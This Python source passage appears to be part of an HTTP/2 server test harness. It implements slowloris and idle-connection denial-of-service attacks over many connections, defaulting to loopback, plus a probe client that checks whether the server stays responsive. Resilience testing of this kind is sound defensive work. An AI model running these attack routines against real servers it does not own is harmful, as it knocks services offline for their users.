    @param during: Called once every connection is open, while the attack
        holds (with a probe, say).
    @param interval: Seconds between two bytes of a preface.
    @param silent: Send nothing at all (not even a TLS ClientHello).
    """
    attack = "slowloris" + (" (silent)" if silent else "")
    started = time.monotonic()
    until = started + deadline
    sent: dict[AttackConnection, int] = {}

    def open() -> AttackConnection:
        connection = AttackConnection(
            port,
            tls,
            host,
            preface=False,
            timeout=max(min(until - time.monotonic(), 10), 0.1),
            handshakeTLS=not silent,
        )
        sent[connection] = 0
        return connection

    def dribble() -> None:
        for connection, count in sent.items():
            if not connection.closed and count < len(PREFACE) - 1:
                connection.queue(PREFACE[count : count + 1], 0)
                sent[connection] = count + 1
                connection.writePending()

    opened, error = _openMany(connections, until, open)
    if not opened:
        return _result(attack, tls, [], "unreachable", started, error)
    if not silent:
        dribble()
    ended = _hold(opened, until, None if silent else dribble, interval, during)
    for connection in opened:
        connection.close()
    return _result(attack, tls, opened, ended, started, error)


def idleConnections(
    port: int,
    tls: bool = False,
    *,
    host: str = LOOPBACK,
    connections: int = 1000,
    deadline: float = 20.0,
    during: Callable[[], object] | None = None,
) -> AttackResult:
    """
    Idle connections: each sends the preface and SETTINGS, acknowledges the
    server's, and then nothing.  The attack holds until the server has
    closed every connection, or the deadline.

    @param port: The server's port on C{host}.
    @param tls: Whether to speak TLS rather than h2c.
    @param host: The server's address.
    @param connections: How many connections.
    @param deadline: The most seconds the attack takes.
    @param during: Called once every connection is open, while the attack
        holds (with a probe, say).
    """
    attack = "idle connections"
    started = time.monotonic()
    until = started + deadline

    def open() -> AttackConnection:
        connection = AttackConnection(
            port, tls, host, timeout=max(min(until - time.monotonic(), 10), 0.1)
        )
        connection.handshake(until)
        return connection

    opened, error = _openMany(connections, until, open)
    if not opened:
        return _result(attack, tls, [], "unreachable", started, error)
    ended = _hold(opened, until, during=during)
    for connection in opened:
        connection.close()
    return _result(attack, tls, opened, ended, started, error)


class _ProbeConnection(AttackConnection):
    """
    A well-behaved connection: what the server sends goes to h2, which
    answers as a client must (acknowledgements, window updates).

    @ivar status: The response's status, once it came.
    @ivar body: The response's body so far.
    @ivar done: Whether the response ended (or failed: see C{error}).
    @ivar error: What went wrong.
    """

    status: int | None = None
    done = False
    error: str | None = None

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.body = bytearray()

    def _handleFrames(self) -> None:
        data = bytes(self._in)
        self._in.clear()
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.H2Error as failure:
            self.done, self.error = True, f"{type(failure).__name__}: {failure}"
            return
        for event in events:
            if isinstance(event, h2.events.ResponseReceived):
                self.status = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.DataReceived):
                self.body += event.data
                self.conn.acknowledge_received_data(
                    event.flow_controlled_length, event.stream_id
                )
            elif isinstance(event, h2.events.StreamEnded):
                self.done = True
            elif isinstance(
                event, h2.events.StreamReset | h2.events.ConnectionTerminated
            ):
                self.done, self.error = True, f"{type(event).__name__}: {event}"
        self.queue(self.conn.data_to_send(), 0)


def probe(
    port: int,
    tls: bool = False,
    *,
    host: str = LOOPBACK,
    path: bytes = b"/",
    timeout: float = 5.0,
) -> ProbeResult:
    """
    One GET of C{path} on a fresh connection, pushes refused, as a
    well-behaved client beside an attack; h2 handles the server's frames.

    @param port: The server's port on C{host}.
    @param tls: Whether to speak TLS rather than h2c.
    @param host: The server's address.
    @param path: What to request.
    @param timeout: How long it may all take, from the connection attempt
        to the end of the response.
    @return: The response, or what went wrong.
    """
    started = time.monotonic()
    deadline = started + timeout
    try:
        connection = _ProbeConnection(
            port, tls, host, settings={ENABLE_PUSH: 0}, timeout=timeout
        )
    except _CONNECT_ERRORS as failure:
        elapsed = time.monotonic() - started
        return ProbeResult(None, b"", elapsed, f"{type(failure).__name__}: {failure}")
    try:
        connection.request(path)
        connection.runUntil(lambda: connection.done, deadline)
    finally:
        connection.close()
    error = connection.error
    if not connection.done:
        error = "closed by the server" if connection.closedByServer else "timed out"
    status = connection.status if error is None else None
    elapsed = time.monotonic() - started
    return ProbeResult(status, bytes(connection.body), elapsed, error)
